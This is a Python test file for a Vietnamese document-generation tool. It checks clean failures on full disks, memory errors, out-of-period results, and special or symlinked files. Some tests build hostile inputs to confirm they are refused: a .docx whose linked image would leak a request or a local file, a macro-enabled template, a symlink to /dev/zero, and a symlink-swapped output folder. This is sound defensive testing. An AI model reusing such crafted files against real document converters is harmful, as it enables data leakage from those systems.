def test_building_an_empty_or_wrong_folder_says_so(tmp_path, make):
    folder = tmp_path / "trong"
    folder.mkdir()
    if make == "parent":
        (folder / "de-an-04").mkdir()  # the workspace one level down: the wrong folder was given
    code, _, err = kehoach("build", folder, "--out", tmp_path / "out")
    assert_clean_failure(code, err, (1,))
    assert "không có văn bản nào" in err and not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- LibreOffice

def _docx_with_linked_image(tmp_path: Path, target: str) -> Path:
    pic = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
           'wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="99" name="p"/><a:graphic '
           'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.'
           'openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
           'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="99" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
           '<pic:blipFill><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
           'r:link="rIdX"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" '
           'y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
           '</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>').encode()
    return template_with(tmp_path, "lien-ket.docx",
                         replace={"word/_rels/document.xml.rels": _external_image_rels(target)},
                         edit=lambda n, d: d.replace(b"<w:body>", b"<w:body>" + pic, 1)
                         if n == "word/document.xml" else d)


@pytest.fixture
def http_server():
    import http.server
    import threading

    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port, hits
    server.shutdown()


@case("LibreOffice with links and network off")
def test_pdf_refuses_a_docx_with_an_external_link(tmp_path, http_server):
    port, hits = http_server
    doc = _docx_with_linked_image(tmp_path, f"http://127.0.0.1:{port}/x.png")
    proc = _cli("pdf", str(doc))
    assert_clean_failure(proc.returncode, proc.stderr, (1,))
    assert "liên kết ra ngoài" in proc.stderr and hits == [] and not doc.with_suffix(".pdf").exists()


@case("LibreOffice with links and network off")
def test_pdf_engine_fetches_no_linked_image_even_unchecked(tmp_path, http_server):
    """LibreOffice itself, given a file the package check would refuse, makes no request and
    embeds no local file (its profile turns links and the network off)."""
    import base64

    from kehoach_docs import pdf

    port, hits = http_server
    png = tmp_path / "bi-mat.png"
    png.write_bytes(base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/"
                                     "iZk9HQAAAABJRU5ErkJggg=="))
    (tmp_path / "web").mkdir()
    web = _docx_with_linked_image(tmp_path / "web", f"http://127.0.0.1:{port}/x.png")
    local = _docx_with_linked_image(tmp_path, png.as_uri())
    original = pdf._invalid_reason
    try:
        pdf._invalid_reason = lambda src: None if src in (web, local) else original(src)
        results = pdf.convert_to_pdf([web, local], workers=1)
    finally:
        pdf._invalid_reason = original
    assert all(r.ok for r in results), [r.error for r in results]
    assert hits == []
    assert b"/Subtype /Image" not in (tmp_path / "lien-ket.pdf").read_bytes()


@case("Users' and machines' mistakes: a message and exit 1 or 2, never exit 3")
def test_pdf_whose_target_is_a_folder_fails_that_file_in_words(tmp_path):
    f = plan_path(tmp_path)
    assert kehoach("render", f, "-o", tmp_path / "kh.docx")[0] == 0
    (tmp_path / "kh.pdf").mkdir()
    proc = _cli("pdf", str(tmp_path / "kh.docx"))
    assert_clean_failure(proc.returncode, proc.stderr, (1,))
    assert "thư mục" in proc.stderr and "kh.pdf" in proc.stderr


# --------------------------------------------------------------------------- a full disk

def _tree(out: Path) -> dict[str, bytes]:
    """Every regular file below `out` but the lock (links are not followed), by relative name."""
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*"))
            if p.is_file() and not p.is_symlink() and p.name != ".kehoach.lock"}


def _whole_docx(data: bytes) -> bool:
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            return zf.testzip() is None and "word/document.xml" in zf.namelist()
    except zipfile.BadZipFile:
        return False


def _disk_with(monkeypatch, free: int | None) -> list[int]:
    """The disk behind os.write/os.pwrite holds `free` more bytes, then says ENOSPC (None:
    no limit, only count). Returns the sizes written, in order."""
    import errno

    import threading

    left, sizes, lock = [free], [], threading.Lock()  # the build writes from several threads
    real_write, real_pwrite = os.write, os.pwrite

    def take(n: int) -> int:
        with lock:
            if left[0] is None:
                return n
            if left[0] <= 0:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            n = min(n, left[0])
            left[0] -= n
            return n

    def write(fd, data):
        n = real_write(fd, bytes(memoryview(data)[:take(len(data))]))
        with lock:
            sizes.append(n)
        return n

    def pwrite(fd, data, offset):
        return real_pwrite(fd, bytes(memoryview(data)[:take(len(data))]), offset)

    monkeypatch.setattr(os, "write", write)
    monkeypatch.setattr(os, "pwrite", pwrite)
    return sizes


DOCS = ("ke-hoach-44.docx", "don-vi/ban-dan-toc.docx", "don-vi/so-noi-vu.docx")


@case("A full disk: each document named, nothing half-written")
def test_a_full_disk_names_each_document_and_keeps_the_old_files(ws, tmp_path, monkeypatch):
    out = tmp_path / "out"
    assert _build(ws, out)[0] == 0
    before = _tree(out)
    khung = ws / "khung-don-vi.yaml"  # every document changes
    khung.write_text(khung.read_text(encoding="utf-8").replace("Nghệ An", "Nghệ  An"), encoding="utf-8")
    plan = ws / "ke-hoach-44.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("luu: BTG, VP", "luu: BTG, VP, VT"),
                    encoding="utf-8")
    _disk_with(monkeypatch, 0)
    code, stdout, err = _build(ws, out)
    assert code == 1, err
    for name in DOCS:  # each document, with its name and the reason
        (line,) = [ln for ln in err.splitlines() if str(out / name) in ln]
        assert "ổ đĩa đã đầy" in line and "tệp ghi nhận" in line, line
    assert "3 lỗi" in stdout
    assert _tree(out) == before  # old documents and the manifest as they were, no temporary file


@case("A full disk: each document named, nothing half-written")
def test_a_full_disk_on_a_first_build_leaves_nothing_behind(ws, tmp_path, monkeypatch):
    out = tmp_path / "out"
    _disk_with(monkeypatch, 0)
    code, _, err = _build(ws, out)
    assert code == 1 and sum("ổ đĩa đã đầy" in ln for ln in err.splitlines()) == 3, err
    assert _tree(out) == {}  # no document, no manifest, no temporary file (an empty lock file at most)
    monkeypatch.undo()
    assert _build(ws, out)[0] == 0


@case("A full disk: each document named, nothing half-written")
def test_a_disk_that_fills_during_the_build_leaves_whole_files_and_a_valid_manifest(ws, tmp_path, monkeypatch):
    import json

    clean = tmp_path / "clean"
    assert _build(ws, clean)[0] == 0
    expected = _tree(clean)
    sizes = _disk_with(monkeypatch, None)  # how much each write takes, in order
    assert _build(ws, tmp_path / "count")[0] == 0
    docs = sorted(len(expected[n]) for n in DOCS)
    assert sorted(sizes[1:4]) == docs, sizes  # the manifest (new hashes), the three documents, the manifest
    # Room for any one document but not two (documents are written side by side, in any order).
    free = sizes[0] + docs[-1] + docs[0] // 2
    monkeypatch.undo()
    out = tmp_path / "out"
    _disk_with(monkeypatch, free)
    code, stdout, err = _build(ws, out)
    assert code == 1, err
    written = _tree(out)
    (made,) = [n for n in DOCS if n in written]  # one made, whole; never half a file
    assert written[made] == expected[made]
    assert not [n for n in written if n.endswith(".tmp")]
    for name in set(DOCS) - {made}:
        assert any(str(out / name) in ln and "ổ đĩa đã đầy" in ln for ln in err.splitlines()), err
    assert ".kehoach-manifest.json" in err  # the record could not be completed, and that is said
    manifest = json.loads(written[".kehoach-manifest.json"])  # whole: the version before the writes
    assert manifest["dinh_dang"] == 1
    monkeypatch.undo()  # space freed: the next build makes the rest, and the first is ours, not an edit
    code, stdout, err = _build(ws, out)
    assert code == 0, err
    assert "giữ bản sửa tay" not in stdout
    assert {n: d for n, d in _tree(out).items() if n.endswith(".docx")} == \
        {n: d for n, d in expected.items() if n.endswith(".docx")}


_TMPFS_CHECK = r"""
import json, sys, zipfile
from pathlib import Path
out = Path(sys.argv[1])
files = {p.relative_to(out).as_posix(): p for p in out.rglob("*") if p.is_file()}
def whole(p):
    try:
        with zipfile.ZipFile(p) as z:
            return z.testzip() is None
    except zipfile.BadZipFile:
        return False
m = files.get(".kehoach-manifest.json")
print(json.dumps({"docx": {n: whole(p) for n, p in files.items() if n.endswith(".docx")},
                  "tmp": [n for n in files if n.endswith(".tmp")],
                  "manifest": json.loads(m.read_text(encoding="utf-8"))["dinh_dang"] if m else None}))
"""


@case("A full disk: each document named, nothing half-written")
def test_a_real_small_disk_names_each_document_it_could_not_hold(ws, tmp_path):
    """A real file system that fills up: a tmpfs in a private mount namespace (it disappears
    with the process), first 4 KiB (the lock file takes it all), then 24 KiB (one document
    fits), then 4 MiB. Needs root and unshare; skipped elsewhere."""
    import json

    if os.geteuid() != 0 or not shutil.which("unshare") or \
            subprocess.run(["unshare", "-m", "true"], capture_output=True).returncode != 0:
        pytest.skip("needs root and mount namespaces (unshare -m)")
    out = tmp_path / "out"
    out.mkdir()
    check = tmp_path / "check.py"
    check.write_text(_TMPFS_CHECK, encoding="utf-8")
    py, env = sys.executable, {**os.environ, "PYTHONPATH": str(ROOT)}
    script = f"mount -t tmpfs -o size=4k tmpfs {out} || exit 99; "
    for size in ("4k", "24k", "4m"):
        script += (f"mount -o remount,size={size} {out}; echo '@@ {size}' >&2; "
                   f"{py} -m kehoach_docs build {ws} --out {out} -j 1 >&2; echo \"$?\"; {py} {check} {out}; ")
    proc = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True,
                          timeout=300, env=env, cwd=ROOT)
    if proc.returncode == 99:
        pytest.skip("tmpfs cannot be mounted here")
    assert "Traceback" not in proc.stderr and "Lỗi nội bộ" not in proc.stderr, proc.stderr
    lines = proc.stdout.splitlines()
    runs = [(int(lines[i]), json.loads(lines[i + 1]), err) for i, err in
            zip(range(0, 6, 2), proc.stderr.split("@@ ")[1:])]
    for code, files, err in runs[:2]:
        assert code == 1, err
        assert not files["tmp"] and all(files["docx"].values())  # what is there is whole
        assert files["manifest"] in (None, 1)
        named = [n for n in DOCS if any(str(out / n) in ln and "ổ đĩa đã đầy" in ln for ln in err.splitlines())]
        assert sorted(named + list(files["docx"])) == sorted(DOCS), err  # made, or named as not written
    assert runs[0][1]["docx"] == {}  # 4 KiB: nothing fits
    assert runs[1][1]["docx"]  # 24 KiB: some fit
    code, files, err = runs[2]
    assert code == 0, err
    assert sorted(files["docx"]) == sorted(DOCS) and all(files["docx"].values()) and files["manifest"] == 1


@case("A full disk: each document named, nothing half-written")
def test_an_output_folder_that_cannot_be_made_names_each_document(ws, tmp_path, monkeypatch):
    import errno

    real = os.mkdir

    def full_mkdir(path, *args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(os, "mkdir", full_mkdir)
    code, _, err = _build(ws, tmp_path / "out")
    monkeypatch.setattr(os, "mkdir", real)
    assert code == 1, err
    for name in DOCS:
        assert any(str(tmp_path / "out" / name) in ln and "ổ đĩa đã đầy" in ln for ln in err.splitlines()), err


# --------------------------------------------------------------------------- an unexpected error

def _render_module():
    """The module and function the write path calls to render (found, so that the cases run on
    older code too: tools/hostile_on_old_code.sh)."""
    import importlib

    for module, name in (("kehoach_docs.documents.prepared", "render_package"), ("kehoach_docs.documents.prepared", "render_bytes"),
                         ("kehoach_docs.documents.pipeline", "render_bytes")):
        try:
            found = importlib.import_module(module)
        except ImportError:
            continue
        if hasattr(found, name):
            return found, name
    raise AssertionError("no render function found")


def _failing_in(monkeypatch, stem: str, exc: BaseException) -> None:
    """Rendering the document of `stem` raises `exc` (the others render as usual)."""
    document, name = _render_module()
    real = getattr(document, name)

    def render(prepared, *rest):
        if Path(prepared.path).stem == stem:
            raise exc
        return real(prepared, *rest)

    monkeypatch.setattr(document, name, render)


@case("An unexpected error in one document")
@pytest.mark.parametrize("exc, words", [
    (OSError(5, "Input/output error", "/mnt/share/mau.docx"), "lỗi đọc/ghi của ổ đĩa"),
    (MemoryError(), "không đủ bộ nhớ"),
])
def test_a_machine_error_in_one_document_fails_it_in_words(ws, tmp_path, monkeypatch, exc, words):
    _failing_in(monkeypatch, "ban-dan-toc", exc)
    out = tmp_path / "out"
    code, stdout, err = _build(ws, out)
    assert code == 1, err
    (line,) = [ln for ln in err.splitlines() if "ban-dan-toc" in ln]
    assert words in line
    assert "2 tạo mới" in stdout and "1 lỗi" in stdout


@case("An unexpected error in one document")
def test_a_bug_in_one_document_is_an_internal_error_and_the_others_are_made(ws, tmp_path, monkeypatch):
    _failing_in(monkeypatch, "ban-dan-toc", TypeError("'NoneType' object is not subscriptable"))
    out = tmp_path / "out"
    code, stdout, err = kehoach("build", ws, "--out", out, "-j", "1")
    assert code == 3, err
    assert "Lỗi nội bộ" in err and "ban-dan-toc.yaml" in err and "--debug" in err
    assert "Traceback" not in err
    assert (out / "ke-hoach-44.docx").is_file() and (out / "don-vi" / "so-noi-vu.docx").is_file()
    code, _, err = kehoach("--debug", "build", ws, "--out", tmp_path / "out2", "-j", "1")
    assert code == 3 and "Traceback" in err and "in render\n" in err  # where the bug is


@case("An unexpected error in one document")
def test_memory_running_out_in_a_single_document_command_is_said_in_words(ws, tmp_path, monkeypatch):
    _failing_in(monkeypatch, "ke-hoach-44", MemoryError())
    code, _, err = kehoach("render", ws / "ke-hoach-44.yaml", "-o", tmp_path / "kh.docx")
    assert_clean_failure(code, err, (2,))
    assert "không đủ bộ nhớ" in err and not (tmp_path / "kh.docx").exists()


@case("An unexpected error in one document")
def test_a_bug_in_a_single_document_command_is_exit_3_with_the_debug_hint(ws, tmp_path, monkeypatch):
    _failing_in(monkeypatch, "ke-hoach-44", KeyError("so"))
    code, _, err = kehoach("render", ws / "ke-hoach-44.yaml", "-o", tmp_path / "kh.docx")
    assert code == 3 and "Lỗi nội bộ" in err and "kehoach --debug render" in err and "Traceback" not in err
    with pytest.raises(KeyError):  # --debug: the traceback itself
        kehoach("--debug", "render", ws / "ke-hoach-44.yaml", "-o", tmp_path / "kh.docx")


@case("An unexpected error in one document")
def test_a_worker_killed_by_the_machine_fails_its_document_only(ws, tmp_path, monkeypatch):
    """The kernel's out-of-memory killer takes one render worker (SIGKILL): that document
    fails in words, every other one is made (the jobs lost with the worker are made again)."""
    import signal

    document, name = _render_module()
    for n in range(8):
        shutil.copy(ws / "don-vi" / "so-noi-vu.yaml", ws / "don-vi" / f"so-{n}.yaml")
    parent, real = os.getpid(), getattr(document, name)

    def render(prepared, *rest):
        if Path(prepared.path).stem == "so-3" and os.getpid() != parent:
            os.kill(os.getpid(), signal.SIGKILL)
        return real(prepared, *rest)

    monkeypatch.setattr(document, name, render)
    out = tmp_path / "out"
    code, stdout, err = _build(ws, out, "-j", "2")
    assert code == 1, err
    (line,) = [ln for ln in err.splitlines() if "so-3" in ln]
    assert "dừng đột ngột" in line and "bộ nhớ" in line
    assert "10 tạo mới" in stdout and "1 lỗi" in stdout


# --------------------------------------------------------------------------- results outside the period

@pytest.fixture
def ws_report(ws) -> Path:
    """`ws` with the sơ kết 2023 and the results of its two units (and the office) for 2021-2023."""
    (ws / "bao-cao").mkdir()
    shutil.copy(SOURCE / "bao-cao" / "so-ket-2023.yaml", ws / "bao-cao" / "so-ket-2023.yaml")
    for year in (2021, 2022, 2023):
        for name in (*UNITS, "toan-khoi"):
            source = SOURCE / "ket-qua" / str(year) / f"{name}.yaml"
            if source.is_file():
                (ws / "ket-qua" / str(year)).mkdir(parents=True, exist_ok=True)
                shutil.copy(source, ws / "ket-qua" / str(year) / source.name)
    return ws


REPORTS = ("bao-cao/so-ket-2023.docx", "bao-cao/so-ket-2023/don-vi/ban-dan-toc.docx",
           "bao-cao/so-ket-2023/don-vi/so-noi-vu.docx")


def _results_of(ws: Path, year: int, unit: str = "so-noi-vu", like: int = 2023) -> Path:
    """A copy of a unit's results of `like`, filed (folder and `nam`) under `year`."""
    text = (ws / "ket-qua" / str(like) / f"{unit}.yaml").read_text(encoding="utf-8")
    assert f"\nnam: {like}\n" in text
    target = ws / "ket-qua" / str(year) / f"{unit}.yaml"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text.replace(f"\nnam: {like}\n", f"\nnam: {year}\n"), encoding="utf-8")
    return target


@case("Results outside the plan's period")
@pytest.mark.parametrize("year, words", [(2030, "nằm ngoài giai đoạn 2021-2025"), (2019, "có trước kế hoạch")])
def test_results_outside_the_plans_period_are_refused_at_their_place(ws_report, tmp_path, year, words):
    ws = ws_report
    assert kehoach("build", ws, "--out", tmp_path / "clean", "-j", "1")[0] == 0
    bad = _results_of(ws, year)
    line = bad.read_text(encoding="utf-8").splitlines().index(f"nam: {year}") + 1
    out = tmp_path / "out"
    code, stdout, err = _build(ws, out, "-v")
    assert code == 1, err
    assert err.count(f"{bad}:{line}:6: [nam] lỗi: Kết quả năm {year} {words}") == 1, err  # once
    assert f"ket-qua/{year}/" in err
    for name in REPORTS:  # every report of the plan stops; the plans are still made
        assert f"lỗi: {out / name}" in stdout
        assert not (out / name).exists()
    assert "3 tạo mới" in stdout and (out / "ke-hoach-44.docx").is_file()
    code, _, err = kehoach("status", ws, "--as-of", "2024-01-31")
    assert_clean_failure(code, err, (1,))
    assert f"{bad}:{line}:6" in err
    code, _, err = kehoach("validate", ws)  # validate refuses what the build refuses
    assert_clean_failure(code, err, (1,))
    assert err.count(f"{bad}:{line}:6: [nam] lỗi: Kết quả năm {year} {words}") == 1, err


@case("Results outside the plan's period")
def test_the_offices_baseline_year_before_the_plan_is_accepted(ws_report, tmp_path):
    """A plan dated 2021 compares ranks with the year before: the office's figures of 2020
    (its toan-khoi.yaml) are the baseline, not results outside the period."""
    ws = ws_report
    base = ws / "ket-qua" / "2020" / "toan-khoi.yaml"
    base.parent.mkdir()
    base.write_text((ws / "ket-qua" / "2021" / "toan-khoi.yaml").read_text(encoding="utf-8")
                    .replace("\nnam: 2021\n", "\nnam: 2020\n"), encoding="utf-8")
    code, _, err = _build(ws, tmp_path / "out")
    assert code == 0, err
    _results_of(ws, 2020, like=2022)  # a unit's results of that year are not a baseline
    code, _, err = _build(ws, tmp_path / "out2")
    assert code == 1 and "ket-qua/2020/so-noi-vu.yaml" in err and "toan-khoi.yaml" in err, err


@case("Results outside the plan's period")
def test_a_report_whose_years_leave_the_plans_period_is_refused_at_its_years(ws_report, tmp_path):
    ws = ws_report
    report = ws / "bao-cao" / "so-ket-2023.yaml"
    text = report.read_text(encoding="utf-8").replace("\nden_nam: 2023\n", "\nden_nam: 2027\n")
    report.write_text(text, encoding="utf-8")
    line = text.splitlines().index("den_nam: 2027") + 1
    code, stdout, err = _build(ws, tmp_path / "out")
    assert code == 1
    assert f"{report}:{line}:10: [den_nam] lỗi: Năm 2027 nằm ngoài giai đoạn 2021-2025" in err, err
    assert "3 tạo mới" in stdout


@case("Results outside the plan's period")
def test_results_outside_the_period_added_after_a_good_build_stop_the_next_one(ws_report, tmp_path):
    """Never stale: the next build sees the new ket-qua/2030/ folder; the reports keep their
    old version, said stale, until the file is moved or removed."""
    ws, out = ws_report, tmp_path / "out"
    assert _build(ws, out)[0] == 0
    old = _tree(out)
    bad = _results_of(ws, 2030)
    code, stdout, err = _build(ws, out, "-v")
    assert code == 1 and f"{bad}:" in err and "nằm ngoài giai đoạn" in err, err
    for name in REPORTS:
        assert f"lỗi: {out / name}" in stdout and _tree(out)[name] == old[name]
    shutil.rmtree(bad.parent)
    code, stdout, err = _build(ws, out)
    assert code == 0, err


# --------------------------------------------------------------------------- render into a data folder

@case("`render` into a data folder")
def test_render_into_a_data_folder_adds_only_hidden_records_that_nothing_reads_as_data(ws, tmp_path):
    """`render ke-hoach-44.yaml` writes ke-hoach-44.docx beside it, and the folder's record of
    what it wrote (for hand-edit protection) as two hidden files: nothing else, and no
    command takes them for data."""
    before = {p.relative_to(ws).as_posix() for p in ws.rglob("*")}
    code, _, err = kehoach("render", ws / "ke-hoach-44.yaml")
    assert code == 0, err
    added = {p.relative_to(ws).as_posix() for p in ws.rglob("*")} - before
    assert added == {"ke-hoach-44.docx", ".kehoach.lock", ".kehoach-manifest.json"}
    assert all(Path(n).name.startswith(".") for n in added - {"ke-hoach-44.docx"})  # hidden (dot) names
    assert kehoach("validate", ws)[0] == 0
    code, stdout, err = kehoach("build", ws, "--out", tmp_path / "out", "-j", "1")
    assert code == 0 and "3 tạo mới" in stdout, err
    assert kehoach("status", ws, "--as-of", "2022-06-30")[0] == 0
    # The record does its work: an edit of the rendered file is kept, then backed up with --force.
    target = ws / "ke-hoach-44.docx"
    target.write_bytes(target.read_bytes() + b"sua tay")
    code, _, err = kehoach("render", ws / "ke-hoach-44.yaml")
    assert code == 2 and "đã được sửa tay" in err


@case("`render` into a data folder")
def test_render_without_its_record_says_so_rather_than_calling_it_a_hand_edit(ws):
    """A clerk deletes the unfamiliar hidden files: the next render cannot know the .docx is
    its own, keeps it, and says exactly that (not "sửa tay"); --force then backs it up."""
    assert kehoach("render", ws / "ke-hoach-44.yaml")[0] == 0
    (ws / ".kehoach-manifest.json").unlink()
    (ws / ".kehoach.lock").unlink()
    plan = ws / "ke-hoach-44.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("luu: BTG, VP", "luu: BTG, VP, VT"), encoding="utf-8")
    old = (ws / "ke-hoach-44.docx").read_bytes()
    code, _, err = kehoach("render", plan)
    assert_clean_failure(code, err, (2,))
    assert "không có ghi nhận" in err and ".kehoach-manifest.json" in err and "--force" in err
    assert "đã được sửa tay sau" not in err
    assert (ws / "ke-hoach-44.docx").read_bytes() == old
    assert kehoach("render", plan, "--force")[0] == 0
    assert (ws / "ke-hoach-44.ban-sua-tay.docx").read_bytes() == old


# --------------------------------------------------------------------------- cases of the issue not yet tried

@case("One bad document never stops the others")
def test_a_docm_template_in_a_build_fails_the_documents_that_use_it_only(ws, tmp_path):
    """Issue 15: "0 of 195 written" for a .docm renamed .docx; now that plan fails in words, the unit plans are made."""
    types = read_part(None, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    template_with(ws, "mau-macro.docx", replace={"[Content_Types].xml": types},
                  add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")])
    plan = ws / "ke-hoach-44.yaml"
    plan.write_text(plan.read_text(encoding="utf-8") + "\nmau: mau-macro.docx\n", encoding="utf-8")
    out = tmp_path / "out"
    code, stdout, err = _build(ws, out)
    assert code == 1 and ".docm" in err and "BytesIO" not in err, err
    assert not (out / "ke-hoach-44.docx").exists()
    assert "2 tạo mới" in stdout and "1 lỗi" in stdout


@case("`render` writes as `build` does")
def test_render_refuses_a_template_with_a_broken_styles_part(tmp_path):
    """Issue 15: `render` wrote what `build` refuses; a corrupt styles.xml is refused naming it, no file written."""
    f = plan_path(tmp_path)
    tpl = template_with(tmp_path, replace={"word/styles.xml": b"<w:styles><w:style>"})
    code, _, err = kehoach("render", f, "--template", tpl, "-o", tmp_path / "out.docx")
    assert_clean_failure(code, err, (1,))
    assert "styles.xml" in err and not (tmp_path / "out.docx").exists()


@case("Lock file, manifest and outputs that are links or special files")
def test_a_data_file_that_is_a_fifo_or_a_device_is_refused_without_blocking(tmp_path):
    fifo, device = tmp_path / "fifo.yaml", tmp_path / "zero.yaml"
    os.mkfifo(fifo)  # a plain open() would wait for a writer forever
    device.symlink_to("/dev/zero")  # a plain read() would never end
    proc = subprocess.run([sys.executable, "-m", "kehoach_docs", "validate", str(fifo), str(device)],
                          capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert proc.returncode == 1, proc.stderr
    out = proc.stdout + proc.stderr
    assert f"{fifo}: lỗi: Không đọc được: đây là một đường ống (FIFO)" in out
    assert f"{device}: lỗi: Không đọc được: đây là một thiết bị" in out
    assert "Traceback" not in out


@case("Lock file, manifest and outputs that are links or special files")
def test_a_stale_output_is_deleted_through_the_output_folder_never_through_a_link(tmp_path):
    from kehoach_docs.safe_file import UnsafeFile, remove_regular

    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    (out / "don-vi").mkdir(parents=True)
    elsewhere.mkdir()
    (out / "don-vi" / "a.docx").write_bytes(b"ours")
    assert remove_regular(out / "don-vi" / "a.docx", out) is True
    assert not (out / "don-vi" / "a.docx").exists()
    assert remove_regular(out / "don-vi" / "a.docx", out) is False  # already gone
    # The folder swapped for a link to another folder holding a file of the same name.
    (out / "don-vi").rmdir()
    (out / "don-vi").symlink_to(elsewhere, target_is_directory=True)
    (elsewhere / "a.docx").write_bytes(b"not ours")
    with pytest.raises(UnsafeFile, match="liên kết"):
        remove_regular(out / "don-vi" / "a.docx", out)
    assert (elsewhere / "a.docx").read_bytes() == b"not ours"
    os.mkfifo(elsewhere / "p.docx")
    with pytest.raises(UnsafeFile, match="FIFO"):
        remove_regular(elsewhere / "p.docx", elsewhere)


@case("Lock file, manifest and outputs that are links or special files")
def test_a_unit_file_that_is_a_fifo_is_named_not_skipped(ws, tmp_path):
    os.mkfifo(ws / "don-vi" / "zz-fifo.yaml")  # skipping it would lose a unit without a word
    out = tmp_path / "out"
    proc = subprocess.run([sys.executable, "-m", "kehoach_docs", "build", str(ws), "--out", str(out), "-j", "1"],
                          capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert proc.returncode == 1, proc.stderr
    assert "zz-fifo.yaml: lỗi: Không đọc được: đây là một đường ống (FIFO)" in proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr
    assert (out / "don-vi" / "so-noi-vu.docx").is_file()  # the others are made


@case("Lock file, manifest and outputs that are links or special files")
def test_a_template_that_is_a_fifo_is_refused_without_blocking(tmp_path):
    import threading

    from kehoach_docs.errors import ProblemList
    from kehoach_docs.render.engine import compile_template

    fifo = tmp_path / "mau.docx"
    os.mkfifo(fifo)
    said: list[str] = []

    def compile_it():
        try:
            compile_template(fifo)
        except ProblemList as exc:
            said.append(exc.problems[0].message)

    def lint_it():
        from kehoach_docs.templates.lint import lint_template

        said.extend(p.message for p in lint_template(fifo))

    for job in (compile_it, lint_it):
        said.clear()
        worker = threading.Thread(target=job, daemon=True)  # a blocked read must not hang the run
        worker.start()
        worker.join(10)
        assert not worker.is_alive(), f"{job.__name__} blocked on a FIFO"
        assert said and "không phải tệp thường" in said[0], job.__name__
    # Asked for by name on the command line: named for what it is, not "not found".
    code, _, err = kehoach("render", plan_path(tmp_path), "-t", fifo, "-o", tmp_path / "kh.docx")
    assert_clean_failure(code, err, (1,))
    assert f"Mẫu '{fifo}': đây là một đường ống (FIFO), không phải tệp thường" in err, err
    assert "Không tìm thấy" not in err and not (tmp_path / "kh.docx").exists()
